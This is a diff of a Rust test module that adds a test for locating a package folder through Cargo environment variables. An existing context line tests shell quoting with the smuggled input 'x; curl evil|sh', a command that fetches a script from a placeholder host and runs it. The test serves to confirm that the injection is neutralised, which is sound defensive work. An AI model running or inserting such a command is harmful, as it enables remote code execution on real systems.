@@ -230,11 +230,11 @@ pub(crate) fn quoted(word: &str) -> String {
 
 #[cfg(test)]
 mod tests {
-    use std::fs;
+    use std::{env, fs, path::Path};
 
     use squall_reports::{html::Golden, record::EndCause};
 
-    use super::{Catalogue, Defect, replay_of};
+    use super::{Catalogue, Defect, package_folder, replay_of};
     use crate::run::tests::failed_run;
 
     #[test]
@@ -247,6 +247,16 @@ mod tests {
             replay_of("x; curl evil|sh\n#'", 3, &[String::new()]),
             r"cargo squall run 'x; curl evil|sh #'\''' --seed 3 --defect ''"
         );
+    }
+
+    /// `cargo test` starts this process for the package `squall`; `.ci/first-crate` copies one.
+    #[test]
+    fn a_package_is_where_cargo_says_and_another_one_where_it_was_compiled() {
+        assert_eq!(package_folder("another", "/compiled/in"), Path::new("/compiled/in"));
+        if env::var_os("CARGO_PKG_NAME").is_some_and(|name| name == "squall") {
+            let here = env::var_os("CARGO_MANIFEST_DIR").expect("cargo sets both");
+            assert_eq!(package_folder("squall", "/compiled/in"), Path::new(&here));
+        }
     }
 
     #[test]
